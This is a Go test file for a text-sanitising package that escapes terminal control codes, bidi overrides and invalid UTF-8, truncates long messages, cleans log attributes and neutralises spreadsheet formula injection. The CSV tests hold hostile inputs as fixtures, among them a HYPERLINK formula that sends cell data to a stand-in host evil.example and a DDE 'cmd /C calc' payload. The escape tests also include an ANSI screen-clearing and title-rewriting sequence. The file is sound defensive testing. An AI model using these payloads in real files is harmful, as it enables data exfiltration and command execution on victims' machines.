package safetext

import (
	"errors"
	"log/slog"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestEscape(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"plain", "connect: connection refused", "connect: connection refused"},
		{"backslash kept", `C:\tmp \x1b`, `C:\tmp \x1b`},
		{"ESC colour", "\x1b[31mred\x1b[0m", `\x1b[31mred\x1b[0m`},
		{"ESC clear screen and title", "\x1b[2J\x1b]0;pwned\x07", `\x1b[2J\x1b]0;pwned\a`},
		{"newline tab CR", "a\nb\tc\rd", `a\nb\tc\rd`},
		{"NUL and DEL", "a\x00b\x7f", `a\x00b\x7f`},
		{"C1 CSI", "a\u009b31m", `a\u009b31m`},
		{"bidi override", "abc\u202edcba\u202c", `abc\u202edcba\u202c`},
		{"bidi isolates", "\u2066x\u2069", `\u2066x\u2069`},
		{"line separator", "a\u2028b", `a\u2028b`},
		{"invalid UTF-8", "a\xffb\xc3", `a\xffb\xc3`},
		{"literal U+FFFD kept", "a\ufffdb", "a\ufffdb"},
		{"non-ASCII kept", "größe 1 µs …", "größe 1 µs …"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Escape(tt.in)
			if got != tt.want {
				t.Errorf("Escape(%q) = %q, want %q", tt.in, got, tt.want)
			}
			if again := Escape(got); again != got {
				t.Errorf("Escape is not idempotent: %q then %q", got, again)
			}
			for _, r := range got {
				if NeedsEscape(r) && r != utf8.RuneError {
					t.Errorf("Escape(%q) = %q still holds %U", tt.in, got, r)
				}
			}
		})
	}
}

func TestCut(t *testing.T) {
	big := strings.Repeat("x", 1258291)
	tests := []struct {
		name     string
		in       string
		max      int
		want     string // "" means: check the prefix and the marker only
		wantKeep int
	}{
		{"short kept", "hello", 10, "hello", 5},
		{"exact kept", "hello", 5, "hello", 5},
		{"cut with marker", strings.Repeat("hello ", 10), 4 + len(Marker(60)), "hell" + Marker(60), 4},
		{"1.2 MiB to 4 KiB", big, MaxMessageBytes, "", MaxMessageBytes - len(Marker(len(big)))},
		{"too small for the marker", "hello world", 3, Marker(11), 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Cut(tt.in, tt.max)
			if tt.want != "" && got != tt.want {
				t.Errorf("Cut = %q, want %q", got, tt.want)
			}
			if len(got) > max(tt.max, len(Marker(len(tt.in)))) {
				t.Errorf("Cut gave %d bytes, want at most %d", len(got), tt.max)
			}
			if !strings.HasPrefix(got, tt.in[:tt.wantKeep]) {
				t.Errorf("Cut lost the first %d bytes", tt.wantKeep)
			}
		})
	}
	if got := Cut(big, MaxMessageBytes); !strings.HasSuffix(got, "… [cut: 1258291 bytes]") {
		t.Errorf("Cut of 1.2 MiB ends %q", got[len(got)-40:])
	}
}

// TestCutUTF8: a cut never splits a rune, whatever the limit.
func TestCutUTF8(t *testing.T) {
	s := strings.Repeat("é€😀", 50)
	for maxBytes := len(Marker(len(s))); maxBytes < len(s); maxBytes++ {
		got := Cut(s, maxBytes)
		if !utf8.ValidString(got) || len(got) > maxBytes {
			t.Fatalf("Cut(_, %d) = %q (%d bytes, valid %v)", maxBytes, got, len(got), utf8.ValidString(got))
		}
	}
}

func TestBound(t *testing.T) {
	tests := []struct {
		name        string
		in          string
		max         int
		want        string
		wantChanged bool
	}{
		{"clean", "iperf 3.16", MaxToolVersionBytes, "iperf 3.16", false},
		{"escaped", "iperf \x1b[31m3.16", MaxToolVersionBytes, `iperf \x1b[31m3.16`, true},
		{"escaped then cut, marker names the original length", strings.Repeat("\x1b", 100), 40,
			strings.Repeat(`\x1b`, 5) + Marker(100), true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, changed := Bound(tt.in, tt.max)
			if got != tt.want || changed != tt.wantChanged {
				t.Errorf("Bound = %q, %v; want %q, %v", got, changed, tt.want, tt.wantChanged)
			}
		})
	}
}

func TestLine(t *testing.T) {
	tests := []struct{ in, want string }{
		{"a\n\tb  c", "a b c"},
		{"\x1b[2Jx\ny", `\x1b[2Jx y`},
		{"abc\u202edef", `abc\u202edef`},
	}
	for _, tt := range tests {
		if got := Line(tt.in); got != tt.want {
			t.Errorf("Line(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestCSVCell: a cell that a spreadsheet would run as a formula starts
// with "'"; other text is only escaped.
func TestCSVCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"+1", "'+1"},
		{"-2+3", "'-2+3"},
		{"\t=1", `\t=1`}, // escaped: starts with a backslash
		{"\r=1", `\r=1`},
		{"iperf 3.12", "iperf 3.12"},
		{"a=b", "a=b"},
		{"", ""},
	}
	for _, tt := range tests {
		if got := CSVCell(tt.in); got != tt.want {
			t.Errorf("CSVCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestLogAttr: with LogAttr, the text and JSON handlers that meshperf's
// daemons log with write no raw control (slog's text handler alone leaves
// DEL raw, its JSON handler DEL, C1 and bidi controls), and a value stays
// on its line.
func TestLogAttr(t *testing.T) {
	handlers := map[string]func(*strings.Builder) slog.Handler{
		"text": func(b *strings.Builder) slog.Handler {
			return slog.NewTextHandler(b, &slog.HandlerOptions{ReplaceAttr: LogAttr})
		},
		"json": func(b *strings.Builder) slog.Handler {
			return slog.NewJSONHandler(b, &slog.HandlerOptions{ReplaceAttr: LogAttr})
		},
	}
	for _, v := range []string{"\x1b[2J", "a\u202eb", "a\u009bb", "a\x7f", "a\nb", "a\xffb"} {
		for name, h := range handlers {
			var b strings.Builder
			slog.New(h(&b)).Info("m "+v, "v", v, "err", errors.New(v))
			checkLogLine(t, name, v, b.String())
		}
	}
}

func checkLogLine(t *testing.T, handler, v, line string) {
	t.Helper()
	for _, r := range line {
		if r != '\n' && NeedsEscape(r) {
			t.Errorf("%s log line of %q holds raw %U: %q", handler, v, r, line)
		}
	}
	if n := strings.Count(line, "\n"); n != 1 {
		t.Errorf("%s log line of %q is %d lines", handler, v, n)
	}
}
